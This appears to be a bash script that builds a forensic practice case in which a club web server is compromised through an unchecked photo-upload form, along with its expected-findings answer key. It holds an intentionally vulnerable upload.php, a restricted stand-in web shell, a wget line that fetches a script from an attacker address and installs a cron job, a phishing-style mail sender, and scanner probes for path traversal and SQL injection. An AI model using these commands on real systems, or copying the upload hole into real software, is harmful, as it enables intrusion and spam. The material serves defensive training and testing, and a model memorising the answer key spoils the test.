#!/bin/bash
# Case "web-upload": a script is uploaded through a weak form, runs as www-data, sends mail and leaves a crontab.
# Usage: web-upload.sh FOLDER
set -euo pipefail
. "$(dirname "$0")/common.sh"
begin web-upload "$1"

admin=198.51.100.40 bad=203.0.113.150 visitor1=198.51.100.91 visitor2=198.51.100.92 visitor3=192.0.2.77
scan1=203.0.113.31 scan2=203.0.113.32 noise1=203.0.113.12 noise2=198.51.100.240
server_tree www2 Etc/UTC
account olga - sudo
echo 'olga ALL=(ALL) NOPASSWD: ALL' >"$tree/etc/sudoers.d/olga"; chmod 440 "$tree/etc/sudoers.d/olga"
key olga olga@laptop; may_enter olga olga
www=$tree/var/www/html
rm -f "$www/index.html"
printf '<!doctype html><html><head><link rel="stylesheet" href="/style.css"><script src="/js/site.js"></script></head><body><img src="/logo.png"><h1>Hill walkers</h1><a href="/gallery.php">gallery</a> <a href="/contact.php">contact</a></body></html>\n' >"$www/index.html"
printf 'body { font-family: serif } h1 { color: navy }\n' >"$www/style.css"
mkdir "$www/js" "$www/uploads"
echo 'console.log("hill walkers");' >"$www/js/site.js"
head -c 900 /dev/urandom >"$www/logo.png"
printf 'User-agent: *\nDisallow: /uploads/\n' >"$www/robots.txt"
cat >"$www/gallery.php" <<'P'
<!doctype html><html><link rel="stylesheet" href="/style.css"><h1>Gallery</h1>
<form method="post" action="upload.php" enctype="multipart/form-data"><input type="file" name="photo"><input type="submit"></form>
<?php foreach (glob("uploads/*.{jpg,png}", GLOB_BRACE) as $f) { echo "<img src=\"/", htmlspecialchars($f), "\">\n"; } ?></html>
P
cat >"$www/upload.php" <<'P'
<?php
// Takes whatever it is given: the weak spot.
if (isset($_FILES['photo'])) {
	move_uploaded_file($_FILES['photo']['tmp_name'], 'uploads/' . basename($_FILES['photo']['name']));
}
header('Location: gallery.php');
P
# Ordinary mail of the site itself, by the same user as the spam later.
cat >"$www/contact.php" <<'P'
<?php
if (isset($_POST['message'])) {
	mail('board@example.net', 'Message from the site', $_POST['message']);
	echo 'Thank you.';
} else {
	echo '<form method="post"><textarea name="message"></textarea><input type="submit"></form>';
}
P
inside chown www-data:www-data /var/www/html/uploads
disk bare 160
# The stand-in of a web shell: it knows four words and runs four fixed things, whatever else it is asked.
mkdir "$work/$tag.web"
cat >"$work/$tag.web/shell.php" <<'P'
<?php
// practice stand-in: knows four words
$known = array(
	'id' => 'id',
	'uname -a' => 'uname -a',
	'wget http://203.0.113.150/q.sh' => 'mkdir -p .thumbs; (lynx -source http://203.0.113.150/q.sh || wget -T 2 -t 1 -O .thumbs/q.sh http://203.0.113.150:8080/q.sh || wget -q -O .thumbs/q.sh http://203.0.113.150/q.sh); echo "*/2 * * * * sh /var/www/html/uploads/.thumbs/q.sh idle >/dev/null 2>&1" | crontab -',
	'sh .thumbs/q.sh' => 'sh .thumbs/q.sh send',
);
$cmd = isset($_REQUEST['cmd']) ? $_REQUEST['cmd'] : '';
echo isset($known[$cmd]) ? shell_exec($known[$cmd]) : 'ok';
P
cat >"$work/$tag.web/q.sh" <<'P'
#!/bin/sh
# practice stand-in: sends forty mails to a sink, or does nothing
[ "$1" = send ] || exit 0
n=0
while [ $n -lt 40 ]; do
	n=$((n + 1))
	printf 'From: Parcel Service <parcel@example.com>\nTo: customer%s@example.net\nSubject: Your parcel is waiting\n\nPlease confirm at http://203.0.113.150/parcel\n' $n | /usr/sbin/sendmail -f parcel@example.com customer$n@example.net
done
P
for f in summer dog_on_hill IMG_2231; do { printf '\377\330\377\340\0\020JFIF\0'; head -c 3000 /dev/urandom; } >"$work/$tag.web/$f.jpg"; done
network $admin $bad $visitor1 $visitor2 $visitor3 $scan1 $scan2 $noise1 $noise2
behind python3 -m http.server --bind $bad --directory "$work/$tag.web" 80
boot

site=http://192.0.2.10 self=http://www2.example.org
ff='Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0'
sa='Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1'
ch='Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36'
browse() { # SRC AGENT
	get "$1" -A "$2" $site/
	for p in style.css js/site.js logo.png; do get "$1" -A "$2" -e $self/ "$site/$p"; done
	pause 0.5 1.5
	get "$1" -A "$2" -e $self/ $site/gallery.php
	get "$1" -A "$2" -e $self/gallery.php $site/style.css
	[ -z "${3:-}" ] || get "$1" -A "$2" -e $self/gallery.php "$site/uploads/$3"
}
photo() { # SRC AGENT FILE
	get "$1" -A "$2" -e $self/gallery.php -F "photo=@$work/$tag.web/$3.jpg;type=image/jpeg" $site/upload.php
	get "$1" -A "$2" -e $self/gallery.php $site/gallery.php
	get "$1" -A "$2" -e $self/gallery.php "$site/uploads/$3.jpg"
}
scanning() { # SRC AGENT PATH...
	local s=$1 a=$2 p; shift 2
	for p in "$@"; do get "$s" -A "$a" --path-as-is "$site/$p"; pause 0 0.2; done
}
act visit visitor "" $visitor1 "looks at the gallery" browse $visitor1 "$ff"
act upload visitor "" $visitor1 "uploads a photo" photo $visitor1 "$ff" summer
guess noise $noise1 root root 123456 & n=$!
session admin olga $admin "logs in by key, reads the log" ssh_key $admin olga olga <<'S'
sudo tail -2 /var/log/apache2/access.log
df -h /
exit
S
act web_scan noise "" $scan1 "asks for things that are not there" scanning $scan1 'Mozilla/5.0 zgrab/0.x' wp-login.php xmlrpc.php .env admin/ phpmyadmin/ .git/config backup.zip old/ test.php shell.php cgi-bin/test.cgi vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php robots.txt uploads/shell.php
act contact visitor "" $visitor2 "writes by the contact form" get $visitor2 -A "$sa" -e $self/contact.php -d 'message=When is the next walk?' $site/contact.php
act visit visitor "" $visitor2 "looks at the gallery" browse $visitor2 "$sa" summer.jpg
act upload visitor "" $visitor2 "uploads a photo" photo $visitor2 "$sa" dog_on_hill
act web_scan noise "" $scan2 "asks for things that are not there, and tries to break out" scanning $scan2 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)' 'index.html?page=../../../../etc/passwd' '../../../../etc/passwd' 'gallery.php?id=1%27%20OR%20%271%27=%271' 'login.jsp' 'config.php.bak' 'db.sql' 'manager/html' 'solr/' 'gallery.php?cmd=id' 'server-status'
guess noise $noise2 oracle oracle
guess noise $noise2 admin admin
wait $n

pause 2
act web_probe intruder "" $bad "looks at the form" get $bad -A "$ch" $site/gallery.php
pause 3
act web_probe intruder "" $bad "tries whether the form takes a text file" get $bad -A "$ch" -e $self/gallery.php -F 'photo=@/etc/hostname;filename=t.txt;type=text/plain' $site/upload.php
act web_probe intruder "" $bad "fetches the text file" get $bad -A "$ch" $site/uploads/t.txt
pause 2
act web_upload intruder www-data $bad "uploads a PHP script through the form" get $bad -A "$ch" -e $self/gallery.php -F "photo=@$work/$tag.web/shell.php;filename=img_0417.php;type=image/jpeg" $site/upload.php
pause 2
act web_shell intruder www-data $bad "runs id" get $bad -A "$ch" "$site/uploads/img_0417.php?cmd=id"
pause 1
act web_shell intruder www-data $bad "runs uname" get $bad -A "$ch" "$site/uploads/img_0417.php?cmd=uname%20-a"
act visit visitor "" $visitor3 "looks at the gallery" browse $visitor3 "$ff" dog_on_hill.jpg
act web_shell intruder www-data $bad "fetches the mail script, leaves a crontab" get $bad -A "$ch" --data-urlencode 'cmd=wget http://203.0.113.150/q.sh' $site/uploads/img_0417.php
pause 2
act spam intruder www-data $bad "sends 40 mails" get $bad -A "$ch" --data-urlencode 'cmd=sh .thumbs/q.sh' $site/uploads/img_0417.php
act upload visitor "" $visitor3 "uploads a photo" photo $visitor3 "$ff" IMG_2231
act contact visitor "" $visitor3 "writes by the contact form" get $visitor3 -A "$ff" -e $self/contact.php -d 'message=Thank you for the pictures' $site/contact.php
guess noise $noise1 test test
cron_minute; cron_minute
down

truth "How was the server made to send this mail: which way in, when, from where, as whom, and what is left?" "$(
	cat <<J
{"expect":{"status":"compromised","root":null,
 "entry":[{"vector":"web-upload","account":"www-data","sources":["$bad"],"first":"$(when web_upload PHP)","first_act":"uploads a PHP script","tolerance_seconds":5}],
 "persistence":[{"mechanism":"cron","path":"/var/spool/cron/crontabs/www-data","as":"www-data"},{"mechanism":"web-shell","path":"/var/www/html/uploads/img_0417.php","as":"www-data"}],
 "altered":[],
 "impact":[{"what":"spam","min_count":40,"by":"www-data","first":"$(when spam 40)"}],
 "files":["/var/www/html/uploads/img_0417.php","/var/www/html/uploads/.thumbs/q.sh"],
 "actions":[{"what":"id","account":"www-data","time":"$(when web_shell 'runs id')"},{"what":"download by wget from $bad","account":"www-data","time":"$(when web_shell fetches)"}]},
 "must_not":{"accounts":["olga"],"addresses":["$admin","$visitor1","$visitor2","$visitor3","$scan1","$scan2","$noise1","$noise2"],
  "files":["/var/www/html/upload.php","/var/www/html/gallery.php","/var/www/html/contact.php","/var/www/html/uploads/summer.jpg","/etc/sudoers.d/olga","/home/olga/.ssh/authorized_keys","/etc/cron.d/php","/etc/cron.d/e2scrub_all"]}}
J
)"
image zst
readme <<'R'
# web-upload

The web server of a club, `www2`, as an ext4 image without partitions (`evidence.img.zst`, unpack with
`zstd -d --long=27`). Local time is UTC; rsyslog writes Debian 12's own format. Visitors upload photos and write by a
contact form, scanners ask for everything, and one day the provider reports junk mail. No log was edited.
R
